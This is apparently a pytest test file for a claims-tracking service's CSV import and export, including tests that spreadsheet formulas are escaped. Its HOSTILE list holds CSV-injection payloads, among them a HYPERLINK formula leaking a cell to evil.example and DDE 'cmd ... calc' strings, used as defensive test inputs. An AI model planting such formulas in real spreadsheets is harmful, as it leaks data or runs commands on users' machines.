"""CSV in and out: ``tally load`` reads a spreadsheet of claims; GET /claims and GET /verdicts answer text/csv."""

from __future__ import annotations

import csv
import io
import itertools
import json
import operator
import re
from pathlib import Path
from typing import Any

import httpx
import msgspec
import pytest
from click.testing import CliRunner, Result
from hypothesis import HealthCheck, given, settings, strategies as st
from litestar.testing import TestClient

from service.claims import DIRECTED_MEASURES
from service.cli import main
from service.figures import FigureError, parse_figure
from service.loading import LoadError, file_records, load_directory, store_file
from service.rules.book import RuleBook
from service.spreadsheets import CLAIM_COLUMNS, CLAIM_IN_COLUMNS, CLAIM_LISTING, VERDICT_COLUMNS, VERDICT_LISTING, escaped, verdicts_csv
from service.store import Store
from service.texts import PASSAGE_PATTERN
from service.verdicts import Verdict
from tests.helpers import FIXTURES_DIR, ROOT, SOURCE, ServerStarter, assert_problem, make_client
from tests.strategies import random_figures

HEADER = "source,quote,subject,breakdown,measure,period,figure,value,unit\n"
AWKWARD = [
    'il a dit : « 1,14 milliard », puis "1,23 milliard"',
    "une ligne\npuis une autre, avec une virgule",
    "قال الوزير إن الصادرات بلغت 1,14 مليار درهم",
    'déjà "cité", à Fès; ça — ok',
]


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as out:
        out.write(HEADER)
        csv.writer(out).writerows(rows)
    return path


def row(quote: str, **cells: str) -> list[str]:
    values = {"source": SOURCE["id"], "quote": quote, "subject": "ma.handicraft.exports", "breakdown": "", "measure": "level",
              "period": "2025", "figure": "5 millions de dirhams", "value": "", "unit": ""} | cells
    return [values[name] for name in HEADER.strip().split(",")]


@pytest.fixture
def desk(store: Store, tmp_path: Path) -> Store:
    sources = tmp_path / "sources.json"
    sources.write_text(json.dumps({"sources": [SOURCE]}), encoding="utf-8")
    store_file(store, sources)
    return store


def test_a_csv_file_loads_one_claim_per_row_empty_cells_absent(desk: Store, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "claims.csv", [
        row("a", breakdown="product=carpets;country=fr"),
        row("b", measure="growth", figure="11 %"),
        [""] * 9,
        row("c", figure="", value="1.14", unit="MMDH"),
    ])
    report = store_file(desk, path)
    assert (report.claims_added, report.skipped) == (3, 0)
    claims = {claim.quote: claim for claim in desk.list_claims().items}
    assert claims["a"].breakdown == {"product": "carpets", "country": "fr"}
    assert claims["b"].breakdown == {} and claims["b"].compared_to == "2024", "an empty cell is an absent field"
    assert (claims["c"].interval.lo, claims["c"].interval.hi) == (1_135_000_000, 1_145_000_000)


def test_a_bad_row_is_reported_by_its_first_line_and_nothing_is_stored(desk: Store, tmp_path: Path) -> None:
    # the first row spans two lines, so the bad row is on line 4, not 3
    path = write_csv(tmp_path / "claims.csv", [row("a\nb"), row("c", period="2025-13")])
    with pytest.raises(LoadError) as raised:
        store_file(desk, path)
    assert raised.value.where == "line 4"
    assert desk.count_claims() == 0


@pytest.mark.parametrize(
    ("text", "where", "said"),
    [
        (HEADER.replace("figure", "figures") + "desk,a,s,,level,2025,1,,\n", "line 1", "unknown column 'figures'"),
        (HEADER + "desk,a,ma.x,product=,level,2025,1 %,,\n", "line 2", "dimension=member"),
        (HEADER + "desk,a,ma.x,,level,2025,1 %,,,extra\n", "line 2", "10 cells"),
        (HEADER + "desk,a,ma.x,,levels,2025,1 %,,\n", "line 2", "$.measure"),
        (HEADER + 'desk,"a"b,ma.x,,level,2025,1 %,,\n', "line 2", "expected after"),
        ("", "line 1", "empty"),
    ],
    ids=["unknown-column", "breakdown", "extra-cell", "measure", "bad-quoting", "empty"],
)
def test_every_bad_file_names_its_line(desk: Store, tmp_path: Path, text: str, where: str, said: str) -> None:
    path = tmp_path / "bad.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(LoadError) as raised:
        store_file(desk, path)
    assert raised.value.where == where and said in raised.value.reason
    assert desk.count_claims() == 0


def test_a_file_that_is_not_utf8_is_refused(desk: Store, tmp_path: Path) -> None:
    path = tmp_path / "latin1.csv"
    path.write_bytes((HEADER + "desk,déjà,ma.x,,level,2025,1 %,,\n").encode("latin-1"))
    with pytest.raises(LoadError, match="UTF-8"):
        store_file(desk, path)


def test_a_spreadsheet_byte_order_mark_is_read_past(desk: Store, tmp_path: Path) -> None:
    path = tmp_path / "excel.csv"
    path.write_bytes("\ufeff".encode() + (HEADER + "desk,a,ma.handicraft.exports,,level,2025,5 millions de dirhams,,\n").encode())
    assert store_file(desk, path).claims_added == 1


@settings(max_examples=60, deadline=None)
# control characters are not text a quote may hold (service/texts.py), but for tab and line breaks
@given(quote=st.text(st.characters(exclude_categories=["Cs", "Cc"], include_characters="\n\t"), min_size=1, max_size=80).filter(str.strip))
def test_any_quote_reads_back_from_a_csv_cell(quote: str, tmp_path_factory: pytest.TempPathFactory) -> None:
    # written as Tally writes a text cell: a quote led by ' (or a formula's first character) gets one more '
    path = write_csv(tmp_path_factory.mktemp("q") / "one.csv", [row(escaped(quote))])
    assert [record.quote for _, record in file_records(path)] == [quote]


def test_the_example_restates_seed_claims_in_every_column(tmp_path: Path, rules: RuleBook) -> None:
    example = ROOT / "examples" / "claims.csv"
    assert example.read_text(encoding="utf-8").splitlines()[0].split(",") == list(CLAIM_IN_COLUMNS)
    with Store(str(tmp_path / "example.duckdb")) as store:
        load_directory(store, FIXTURES_DIR, rules)
        report = store_file(store, example)
    assert report.claims_added == 0 and report.skipped == 3, "each row reads as the seed claim it restates"


# --- out: GET /claims and GET /verdicts as text/csv ------------------------------------------------


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_awkward_quotes_round_trip_through_load_and_the_csv_listing(desk: Store, tmp_path: Path, rules: RuleBook) -> None:
    store_file(desk, write_csv(tmp_path / "awkward.csv", [row(q, breakdown="country=fr") for q in AWKWARD]))
    with make_client(desk, rules) as client:
        response = client.get("/claims", params={"format": "csv"})
        listed = client.get("/claims").json()
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = read_csv(response.text)
    assert list(rows[0]) == list(CLAIM_COLUMNS)
    assert [r["quote"] for r in rows] == [c["quote"] for c in listed] == AWKWARD
    assert {r["breakdown"] for r in rows} == {"country=fr"}
    assert [(float(r["lo"]), float(r["hi"]), r["unit"]) for r in rows] == [
        (c["interval"]["lo"], c["interval"]["hi"], c["interval"]["unit"]) for c in listed
    ]


def test_claims_as_csv_keep_the_filters_and_paging_headers(seeded_reader: TestClient) -> None:
    params = {"subject": "ma.handicraft.exports", "limit": 5, "offset": 5}
    as_json = seeded_reader.get("/claims", params=params)
    as_csv = seeded_reader.get("/claims", params=params, headers={"Accept": "text/csv"})
    assert as_csv.headers["content-type"].startswith("text/csv")
    assert [r["id"] for r in read_csv(as_csv.text)] == [c["id"] for c in as_json.json()]
    for header in ("x-total-count", "link"):
        assert as_csv.headers[header] == as_json.headers[header]


def test_verdicts_as_csv_are_the_json_page_in_columns(seeded_reader: TestClient) -> None:
    params = {"status": "contradicted", "limit": 3}
    page = seeded_reader.get("/verdicts", params=params).json()
    as_csv = seeded_reader.get("/verdicts", params=params | {"format": "csv"})
    rows = read_csv(as_csv.text)
    assert list(rows[0]) == list(VERDICT_COLUMNS)
    assert [(r["id"], r["rule"], r["status"], r["computation"]) for r in rows] == [
        (v["id"], v["rule"], v["status"], v["computation"]) for v in page["verdicts"]
    ]
    assert [r["claims"].split(" ") for r in rows] == [[c["id"] for c in v["claims"]] for v in page["verdicts"]]
    assert [float(r["margin"]) if r["margin"] else None for r in rows] == [v["margin"] for v in page["verdicts"]]
    assert as_csv.headers["x-total-count"] == str(page["total"])
    assert as_csv.headers["link"] == '</verdicts?status=contradicted&format=csv&limit=3&offset=3>; rel="next"', "the next page is CSV too"


def test_format_json_wins_over_accept(seeded_reader: TestClient) -> None:
    response = seeded_reader.get("/verdicts", params={"format": "json", "limit": 1}, headers={"Accept": "text/csv"})
    assert response.headers["content-type"].startswith("application/json")
    assert "verdicts" in response.json()


@pytest.mark.parametrize("path", ["/claims", "/verdicts"])
def test_an_unknown_format_is_a_422_naming_format(seeded_reader: TestClient, path: str) -> None:
    assert_problem(seeded_reader.get(path, params={"format": "xlsx"}), 422, "format")


def test_a_real_server_answers_csv(desk: Store, tmp_path: Path, start_server: ServerStarter) -> None:
    store_file(desk, write_csv(tmp_path / "awkward.csv", [row(q) for q in AWKWARD]))
    with start_server(desk) as base_url:
        response = httpx.get(f"{base_url}/claims", headers={"Accept": "text/csv"})
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert [r[2] for r in csv.reader(io.StringIO(response.text, newline=""))][1:] == AWKWARD


# --- formulas: no text cell a spreadsheet would run, and the listing loads back ---------------------

# A spreadsheet runs a cell starting with one of these as a formula (OWASP "CSV injection"); ' is the escape itself.
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\n")
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"see the source")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", "'Tis a quote", "قال الوزير إن الصادرات بلغت ‏1,14 مليار درهم"]
ARABIC_FIGURES = {"level": ("1,14 مليار درهم", "١٫١٤ مليار درهم"), "share": ("قرابة 49 في المائة",)}


def tally(*args: str | Path) -> Result:
    """The ``tally`` command, in-process."""
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)


def text_columns_of(header: list[str], numbers: frozenset[str]) -> list[int]:
    return [index for index, name in enumerate(header) if name not in numbers]


def assert_no_formula(text: str, numbers: frozenset[str]) -> list[list[str]]:
    """Every row as long as the header, and no text cell that a spreadsheet would run; the rows."""
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    header = rows[0]
    assert all(len(r) == len(header) for r in rows), "every row has the header's columns"
    for r in rows[1:]:
        for index in text_columns_of(header, numbers):
            assert not r[index].startswith(FORMULA_LEADS), (header[index], r[index])
    return rows


# A quote as printed: any words (no control characters but tab and line breaks), often led by
# what starts a formula or by the escape itself, in Latin or Arabic script.
quote_texts = st.text(st.characters(exclude_categories=["Cs", "Cc"], include_characters="\n\t\r"), min_size=1, max_size=40)
quotes = st.builds(operator.add, st.sampled_from(("", "", *FORMULA_LEADS, "'", "''", *HOSTILE)), quote_texts).filter(
    lambda q: re.search(PASSAGE_PATTERN, q) is not None
)
categories = st.builds(operator.add, st.sampled_from(("", *FORMULA_LEADS, "'", *HOSTILE)), st.text(min_size=1, max_size=20)).filter(
    lambda t: t.strip() != ""
)


@st.composite
def listed_claims(draw: st.DrawFn, lang: str) -> dict[str, Any]:
    """A claim body POST /claims stores: a printed figure fit for its measure, or a category's text."""
    measures = ("level", "share") if lang == "ar" else ("level", "count", "average", "share", "share_change", "growth", "average_growth", "category")
    measure = draw(st.sampled_from(measures))
    if measure == "category":
        figure = draw(categories)
    elif lang == "ar":
        figure = draw(st.sampled_from(ARABIC_FIGURES[measure]))
    else:
        figure = draw(random_figures("growth" if measure == "average_growth" else measure, lang)).text
    period = "2021/2024" if measure == "average_growth" else draw(st.sampled_from(("2025", "2025-01/2025-11", "2024-12")))
    breakdown = draw(st.dictionaries(st.sampled_from(("product", "country")), st.sampled_from(("carpets", "fr", "leather_goods")), max_size=2))
    body = {"quote": draw(quotes), "subject": draw(st.sampled_from(("ma.handicraft.exports", "ma.tourism"))),
            "breakdown": breakdown, "measure": measure, "period": period, "figure": figure}
    if measure in DIRECTED_MEASURES and _takes_a_fall(figure, lang) and draw(st.booleans()):
        body["direction"] = "down"  # a fall its sentence prints apart from the figure
    return body


def _takes_a_fall(figure: str, lang: str) -> bool:
    try:
        parse_figure(figure, lang, direction="down")
    except FigureError:
        return False
    return True


@st.composite
def desks_with_claims(draw: st.DrawFn) -> tuple[str, list[dict[str, Any]]]:
    """A source's language and its claims; the source id is the caller's, one per example (a replayed example is new to the server)."""
    lang = draw(st.sampled_from(("fr", "en", "ar")))
    return lang, draw(st.lists(listed_claims(lang), min_size=1, max_size=4, unique_by=lambda body: body["quote"]))


def test_any_claim_round_trips_through_the_csv_listing_and_tally_load(start_server: ServerStarter, store: Store, tmp_path_factory: pytest.TempPathFactory) -> None:
    """POST /claims, then GET /claims?format=csv, then ``tally load`` into a fresh store: the same claims, every field, the same ids."""
    desks = itertools.count()
    with start_server(store) as base_url, httpx.Client(base_url=base_url) as api:

        @settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
        @given(drawn=desks_with_claims())
        def round_trip(drawn: tuple[str, list[dict[str, Any]]]) -> None:
            lang, bodies = drawn
            desk = {"id": f"desk-{next(desks)}", "title": "Dépêche", "outlet": "Agence", "language": lang}
            assert api.post("/sources", json=desk).status_code == 201
            for body in bodies:
                response = api.post("/claims", json=body | {"source": desk["id"]})
                assert response.status_code == 201, response.text
            listed = api.get("/claims", params={"source": desk["id"]}).json()
            sheet = api.get("/claims", params={"source": desk["id"], "format": "csv"})
            assert_no_formula(sheet.text, CLAIM_LISTING.numbers)
            folder = tmp_path_factory.mktemp("round-trip")
            (folder / "desk.json").write_text(json.dumps({"sources": [desk]}), encoding="utf-8")
            (folder / "claims.csv").write_bytes(sheet.content)
            result = tally("load", "--db", folder / "fresh.duckdb", folder / "desk.json", folder / "claims.csv")
            assert result.exit_code == 0, result.output
            with Store(str(folder / "fresh.duckdb")) as fresh:
                loaded = msgspec.to_builtins(fresh.list_claims(source=desk["id"]).items)
            assert loaded == listed, "the same claims, every field, the same ids"

        round_trip()


HOSTILE_DESK = {"id": "hostile", "title": "=HYPERLINK(\"http://evil.example\")", "outlet": "@Agence", "language": "fr"}


def hostile_claims() -> list[dict[str, Any]]:
    """Claims whose every free text starts a formula: quotes, printed figures, categories (of two sources, so they meet)."""
    on = {"subject": "ma.handicraft.exports", "period": "2025-01/2025-11"}
    return [
        {"source": "desk", "quote": HOSTILE[0], "measure": "level", "figure": "1,14 milliard de dirhams", **on},
        {"source": "hostile", "quote": HOSTILE[1], "measure": "level", "figure": "1,23 milliard de dirhams", **on},
        {"source": "hostile", "quote": HOSTILE[2], "measure": "share_change", "figure": "-8 points", **on},
        {"source": "hostile", "quote": HOSTILE[3], "measure": "growth", "figure": "+13 %", **on},
        {"source": "desk", "quote": HOSTILE[4], "measure": "category", "figure": "BCP", "subject": "ma.partner_bank", "period": "2025-05"},
        {"source": "hostile", "quote": HOSTILE[5], "measure": "category", "figure": HOSTILE[0], "subject": "ma.partner_bank", "period": "2025-05"},
        {"source": "hostile", "quote": HOSTILE[6], "measure": "average", "figure": "-5 %", **on},
        {"source": "desk", "quote": HOSTILE[7], "measure": "level", "figure": "1,14 مليار درهم", **on},
    ]


def test_a_real_server_writes_no_text_cell_a_spreadsheet_would_run(store: Store, start_server: ServerStarter, tmp_path: Path) -> None:
    """Quotes, figures, categories, withdrawals and verdicts that start formulas: escaped in CSV, intact in JSON, and loaded back."""
    with start_server(store) as base_url, httpx.Client(base_url=base_url) as api:
        for desk in (SOURCE, HOSTILE_DESK):
            assert api.post("/sources", json=desk).status_code == 201
        answers = [api.post("/claims", json=body) for body in hostile_claims()]
        assert [a.status_code for a in answers] == [201] * len(answers), [a.text for a in answers if a.status_code != 201]
        posted = [a.json()["claim"] for a in answers]
        assert api.post(f"/claims/{posted[1]['id']}/retract", json={"by": "=cmd|' /C calc'!A0", "reason": "@SUM(1+1)"}).status_code == 200
        correction = {key: posted[3][key] for key in ("source", "quote", "subject", "measure", "period")} | {"figure": "+11 %"}
        assert api.post(f"/claims/{posted[3]['id']}/correct", json=correction | {"by": "-desk", "reason": "\t+typo"}).status_code == 201
        as_json = api.get("/claims").json()
        claims_sheet = api.get("/claims", params={"format": "csv"})
        verdicts_sheet = api.get("/verdicts", params={"format": "csv"})
    assert [c["quote"] for c in as_json][: len(HOSTILE)] == HOSTILE, "JSON keeps every value as stored"
    assert as_json[1]["retracted"]["by"] == "=cmd|' /C calc'!A0"
    rows = assert_no_formula(claims_sheet.text, CLAIM_LISTING.numbers)
    assert_no_formula(verdicts_sheet.text, VERDICT_LISTING.numbers)
    assert len(read_csv(verdicts_sheet.text)) >= 2, "the contradictions are listed"
    listed = read_csv(claims_sheet.text)
    assert [r["quote"] for r in listed][: len(HOSTILE)] == ["'" + q if q.startswith((*FORMULA_LEADS, "'")) else q for q in HOSTILE]
    assert (listed[1]["withdrawn_by"], listed[1]["withdrawn_reason"]) == ("'=cmd|' /C calc'!A0", "'@SUM(1+1)")
    assert (listed[2]["figure"], listed[2]["lo"], listed[2]["hi"]) == ("'-8 points", "-8.5", "-7.5"), "a number column is never escaped"
    assert listed[5]["figure"] == "'" + HOSTILE[0]
    assert len(rows) == len(as_json) + 1
    # the listing loads back into a fresh store: the claims and ids as listed, withdrawal marks ignored
    sheet = tmp_path / "claims.csv"
    sheet.write_bytes(claims_sheet.content)
    (tmp_path / "desks.json").write_text(json.dumps({"sources": [SOURCE, HOSTILE_DESK]}), encoding="utf-8")
    assert tally("load", "--db", tmp_path / "fresh.duckdb", tmp_path / "desks.json", sheet).exit_code == 0
    with Store(str(tmp_path / "fresh.duckdb")) as fresh:
        loaded = msgspec.to_builtins(fresh.list_claims().items)
    unmarked = {"retracted": None, "corrected": None, "superseded_by": None, "corrects": None}
    assert loaded == [claim | unmarked for claim in as_json]


def test_a_number_column_stays_a_number(seeded_reader: TestClient) -> None:
    """A verdict's margin of -8.5 is written as a number, while its computation, a text, is escaped."""
    verdict = msgspec.convert(seeded_reader.get("/verdicts", params={"limit": 1}).json()["verdicts"][0], Verdict)
    hostile = msgspec.structs.replace(verdict, margin=-8.5, computation="-8.5 points: =1+1")
    (row,) = read_csv(verdicts_csv([hostile]))
    assert (row["margin"], row["computation"]) == ("-8.5", "'-8.5 points: =1+1")


def test_tally_load_drops_one_leading_mark_from_a_text_cell_only(desk: Store, tmp_path: Path) -> None:
    """A text cell loses exactly one leading ': '' is a text that starts with one; a value, a number, keeps what it holds."""
    path = write_csv(tmp_path / "marked.csv", [
        row("'=1+1", figure="'5 millions de dirhams"),
        row("''Tis", breakdown="'country=fr"),
        row("c", figure="", value="'1.14", unit="MMDH"),
    ])
    records = file_records(path)
    first, second = (record for _, record in itertools.islice(records, 2))
    assert (first.quote, first.figure) == ("=1+1", "5 millions de dirhams")
    assert (second.quote, second.breakdown) == ("'Tis", {"country": "fr"})
    with pytest.raises(LoadError) as raised:
        store_file(desk, path)
    assert raised.value.where == "line 4" and "'1.14" in raised.value.reason, "a number cell is not unescaped"
